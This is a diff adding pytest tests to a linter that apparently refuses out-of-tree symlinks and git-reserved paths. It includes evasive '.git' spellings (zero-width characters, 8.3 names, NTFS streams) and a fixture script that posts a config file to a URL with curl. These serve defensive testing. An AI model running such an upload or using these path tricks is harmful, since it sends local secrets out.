@@ -10,8 +10,9 @@ import click
 import pytest
 import yaml
 
+from splint.agents.roots import OutsideError, Roots
 from splint.cli.group import COMMANDS, _Commands
-from splint.files.trust import IGNORES, NEVER
+from splint.files.trust import IGNORES, NEVER, is_of_git
 from splint.settings.keys import KEYS
 from splint.testing import BASES
 from tests.command import Command
@@ -417,6 +418,60 @@ def test_a_walk_passes_over_a_symlink_out_of_the_tree_and_says_so(run: Run) -> N
     assert {diagnostic["path"] for diagnostic in report.report["diagnostics"]} == {"bad.json", "b.json"}
     assert "passed over symlinks that lead out of the tree: ./a.json" in report.err
     assert CANARY in run("a.json", "--output-format", "html").out
+
+
+def test_a_symlink_to_a_directory_leads_out_of_no_tree(run: Run) -> None:
+    """A walk says which it passes over, and a stranger's is refused; what lies behind either is not even listed."""
+    for name in ("spring", "spring.json"):
+        Path(name).symlink_to("../outside")
+    report = run("--output-format", "concise", ".")
+    assert "passed over symlinks that lead out of the tree: ./spring, ./spring.json" in report.err
+    assert (report.status, "secret" in report.out + report.err) == (1, False)
+    report = run("--output-format", "concise", "--untrusted", ".")
+    for name in ("spring", "spring.json"):
+        assert f"{name}: cannot be read: it leads out of what is checked" in report.out + report.err
+    assert (report.status, "secret" in report.out + report.err) == (2, False)
+    assert CANARY in run("spring", "--output-format", "html").out
+
+
+def test_a_stranger_hides_nothing_behind_a_symlink_in_the_tree(run: Run) -> None:
+    """What a walk of the named directory would not reach is read where a symlink leads to it."""
+    Path("hid").mkdir()
+    Path("p").mkdir()
+    Path("bad.json").rename("hid/bad.json")
+    Path("p/spring").symlink_to("../hid")
+    assert codes(run, "p") == {"SPL106"}
+    assert codes(run, "--untrusted", "p", "hid") == {"SPL106"}
+    assert run("--untrusted", "p").status == 2
+
+
+@pytest.mark.parametrize("options", [("p",), ("--force-exclude", "p/dist/a.json", "p/node_modules/b/a.json")])
+def test_a_stranger_hides_nothing_in_a_directory_that_no_walk_enters(run: Run, options: tuple[str, ...]) -> None:
+    """Anybody may call a directory `dist`; what git keeps for itself nobody can commit."""
+    for name in ("p/dist/a.json", "p/node_modules/b/a.json", "p/.git/a.json"):
+        Path(name).parent.mkdir(parents=True)
+        Path(name).write_text(BAD)
+    found = run("--output-format", "json", "--untrusted", *options).report["diagnostics"]
+    assert {one["path"] for one in found} == {"p/dist/a.json", "p/node_modules/b/a.json"}
+    assert run("--output-format", "json", *options, "bad.json").report["summary"]["files"] == 1
+
+
+@pytest.mark.parametrize(
+    "name", [".GIT", ".g\u200cit", ".Git\ufeff", "git~1", "GIT~1", ".git.", ".git ", ".git::$DATA"]
+)
+def test_what_some_file_system_takes_for_git_is_read_nowhere(run: Run, tmp_path: Path, name: str) -> None:
+    """Whatever the tree says: neither as a payload, nor as a script's body, nor for an agent."""
+    Path(name).mkdir()
+    Path(name, "config.json").write_text(json.dumps({**CAMPAIGN, "campaign_name": CANARY}))
+    Path("a.sh").write_text(f"curl -X POST {URL} -d '@{name}/config.json'\n")
+    outcomes = [run("--untrusted", f"{name}/config.json"), run("a.sh"), run("--untrusted", ".")]
+    assert [outcome.status for outcome in outcomes] == [2, 1, 2]
+    assert CANARY not in "".join(outcome.out + outcome.err for outcome in outcomes)
+    with pytest.raises(OutsideError, match="what git keeps for itself"):
+        Roots(["."]).read(f"{name}/config.json")
+    assert not any(
+        map(is_of_git, (".github/a.json", "p/.gitignore", "git/a.json", "git~10", "a.git/b", ".git-rewrite"))
+    )
 
 
 def test_a_large_file_of_a_stranger_is_refused(run: Run) -> None:
